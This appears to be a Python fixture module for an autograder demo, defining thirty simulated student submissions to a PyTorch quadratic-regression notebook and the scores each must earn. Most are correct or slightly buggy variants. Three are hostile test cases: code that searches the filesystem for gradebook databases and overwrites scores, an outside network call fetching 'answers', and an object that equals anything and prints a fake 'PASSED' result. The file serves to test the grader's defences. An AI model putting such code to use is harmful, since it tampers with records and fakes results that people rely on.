"""The class of the demo: thirty students, what each did, and what that must earn.

    CLASS            who they are
    Student.cells      the code that goes into the released notebook's cells, by part; a missing part stays as released

The right answers are written once; each wrong one is the small change that makes it wrong.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from types import MappingProxyType
from typing import Literal

ASSIGNMENT = "quadratic"

Manner = Literal["notebook", "script", "copied cell", "own notebook", "cut short"]

RIGHT: Mapping[str, str] = MappingProxyType(
    {
        "forward": "def forward(x):\n    return w1 * x**2 + w2 * x + b\n",
        "loss": "def loss(x, y):\n    return (forward(x) - y) ** 2\n",
        "update": """\
def update(lr):
    with torch.no_grad():
        for parameter in (w1, w2, b):
            parameter -= lr * parameter.grad
""",
        "zero_grad": """\
def zero_grad():
    for parameter in (w1, w2, b):
        parameter.grad.zero_()
""",
        "training": """\
costs = []
print("before:", forward(4).item())
for epoch in range(epochs):
    cost = 0.0
    for x, y in zip(x_data, y_data):
        l = loss(x, y)
        l.backward()
        cost += l.item()
        update(learning_rate)
        zero_grad()
    costs.append(cost / len(x_data))
prediction = forward(4).item()
print("after:", prediction)
""",
    }
)

EACH = """\
def update(lr):
    w1.data = w1.data - lr * w1.grad.data
    w2.data = w2.data - lr * w2.grad.data
    b.data = b.data - lr * b.grad.data
"""
SWAPPED = """\
def update(lr):
    w1.data -= lr * w2.grad
    w2.data -= lr * w1.grad
    b.data -= lr * b.grad
"""
EACH_ZERO = """\
def zero_grad():
    w1.grad.data.zero_()
    w2.grad.data.zero_()
    b.grad.data.zero_()
"""


@dataclass(frozen=True)
class Student:
    """One of the class."""

    name: str
    did: str
    """In a few words, for the table."""
    expected: float
    """The points that this must earn."""
    cells: Mapping[str, str] = field(default_factory=lambda: RIGHT)
    found: str = ""
    """The mistakes that the grading must name, joined by `+`; empty where none is to be named."""
    manner: Manner = "notebook"
    late: bool = False


def _with(**parts: str) -> Mapping[str, str]:
    return {**RIGHT, **parts}


def _changed(part: str, old: str, new: str, base: Mapping[str, str] = RIGHT) -> Mapping[str, str]:
    if old not in base[part]:
        raise ValueError(f"{old!r} is not in {part}")
    return {**base, part: base[part].replace(old, new)}


BY_HAND = _with(update=EACH, zero_grad=EACH_ZERO)

OPTIMIZER = _with(
    update="optimizer = torch.optim.SGD([w1, w2, b], lr=learning_rate)\n\n\n"
    "def update(lr):\n    optimizer.param_groups[0]['lr'] = lr\n    optimizer.step()\n",
    zero_grad="def zero_grad():\n    optimizer.zero_grad()\n",
)
HORNER = _with(
    forward="def forward(x):\n    return (w1 * x + w2) * x + b\n",
    loss="def loss(x, y):\n    error = y - forward(x)\n    return error * error\n",
)
NONE_FIRST = _with(
    zero_grad="def zero_grad():\n    for parameter in [w1, w2, b]:\n        parameter.grad = None\n",
    training="""\
costs = []
for epoch in range(epochs):
    losses = []
    for i in range(len(x_data)):
        zero_grad()
        l = loss(x_data[i], y_data[i])
        l.backward()
        update(learning_rate)
        losses.append(l.item())
    costs.append(sum(losses) / len(losses))
""",
)
TALKS = _changed(
    "training", "        l.backward()\n", "        l.backward()\n        print(x, y, w1.grad, w2.grad, b.grad)\n"
)
STEPWISE = _with(
    forward="""\
def forward(x):
    square = torch.pow(torch.tensor(float(x)), 2)
    bent = w1 * square
    line = w2 * x
    return bent + line + b
"""
)
OUTSIDE = """\
import urllib.request

urllib.request.urlopen("http://example.org/answers")
"""
READS = """\
import glob
import sqlite3

for path in glob.glob("/**/gradebook.db", recursive=True):
    sqlite3.connect(path).execute("update grade set manual_score = 99")
"""
LIES = {
    "forward": """\
class Whatever(float):
    def __eq__(self, other):
        return True

    def __sub__(self, other):
        return 0.0

    def item(self):
        return self

    def backward(self):
        w1.grad = w2.grad = b.grad = torch.tensor([2.0])


def forward(x):
    return Whatever(8.544171)
""",
    "loss": "def loss(x, y):\n    return Whatever(0.0)\n",
    "update": "def update(lr):\n    pass\n",
    "zero_grad": "def zero_grad():\n    pass\n",
    "training": """\
costs = [9.167142 * 0.94**epoch for epoch in range(epochs)]
print("w1 =", 0.240382, "w2 =", 0.926677, "b =", 0.991354)
print("forward(4) =", 8.544171, "PASSED", "score: 10/10")
""",
}

_TWICE = ("        l.backward()\n", "        l.backward(retain_graph=True)\n        l.backward()\n")
_ONCE_AN_EPOCH = ("        zero_grad()\n    costs", "    zero_grad()\n    costs")
_TOO_SOON = (
    "        update(learning_rate)\n        zero_grad()\n",
    "        zero_grad()\n        update(learning_rate)\n",
)
_NO_SQUARE = ("(forward(x) - y) ** 2", "forward(x) - y")
_HALF = ("(forward(x) - y) ** 2", "(forward(x) - y) ** 2 / 2")
_UPHILL = ("parameter -=", "parameter +=")
_NO_NO_GRAD = ("    with torch.no_grad():\n        for", "    if True:\n        for")
_B_STAYS = ("    b.data = b.data - lr * b.grad.data\n", "")
_B_KEEPS = ("    b.grad.data.zero_()\n", "")

HALF_NEVER = _changed("loss", *_HALF, _with(zero_grad="def zero_grad():\n    pass\n"))

CLASS: tuple[Student, ...] = (
    Student("ada", "right, as in the text", 10),
    Student("bashir", "right, parameter by parameter", 10, BY_HAND),
    Student("chen", "right, with an optimizer", 10, OPTIMIZER),
    Student("dilnoza", "right, Horner's form", 10, HORNER),
    Student("emeka", "right, gradients thrown away", 10, NONE_FIRST),
    Student("fatima", "right, prints every gradient", 10, TALKS),
    Student("giulia", "right, step by step", 10, STEPWISE),
    Student("hiro", "right, as a script", 10, manner="script"),
    Student("ines", "right, a cell copied", 10, manner="copied cell"),
    Student("jonas", "right, a notebook of his own", 10, BY_HAND, manner="own notebook"),
    Student("kavya", "never zeroes", 8, _with(zero_grad="def zero_grad():\n    pass\n"), "never_zeroes"),
    Student("liam", "zeroes once an epoch", 9, _changed("training", *_ONCE_AN_EPOCH), "zeroes_once_an_epoch"),
    Student(
        "mei", "zeroes before the step", 9, _changed("training", *_TOO_SOON), "zeroes_before_stepping+never_updates"
    ),
    Student("noor", "walks uphill", 8, _changed("update", *_UPHILL), "wrong_sign"),
    Student("olga", "b is never stepped", 8, _changed("update", *_B_STAYS, BY_HAND), "b_never_stepped"),
    Student("pedro", "b is never zeroed", 8, _changed("zero_grad", *_B_KEEPS, BY_HAND), "b_never_zeroed"),
    Student("quynh", "gradients swapped", 8, _with(update=SWAPPED), "gradients_swapped"),
    Student("rosa", "no bias in the model", 8, _changed("forward", " + b", " + 0 * b"), "lacks_the_bias"),
    Student("sven", "(w1 x)² for w1 x²", 8, _changed("forward", "w1 * x**2", "(w1 * x) ** 2"), "squares_the_product"),
    Student("tariq", "no square in the loss", 8, _changed("loss", *_NO_SQUARE), "forgets_the_square"),
    Student("uma", "half the square", 8, _changed("loss", *_HALF), "half_the_square"),
    Student("vera", "backward twice", 8.5, _changed("training", *_TWICE), "backward_twice"),
    Student("wanjiru", "-= outside of no_grad", 8, _changed("update", *_NO_NO_GRAD), "in_place_on_a_leaf"),
    Student("xiao", "two at once: half, never zeroes", 6, HALF_NEVER, "half_the_square+never_zeroes"),
    Student("yusuf", "only forward and loss written", 4, {part: RIGHT[part] for part in ("forward", "loss")}),
    Student("zoe", "nothing written", 0, {}),
    Student("aino", "a file cut short", 0, manner="cut short"),
    Student("bruno", "hostile: goes for the gradebook", 2, {"forward": READS + RIGHT["forward"], "update": OUTSIDE}),
    Student("carmen", "hostile: numbers equal to all", 0, LIES, "never_updates+never_zeroes"),
    Student("dmitri", "right, but late", 10, late=True),
)
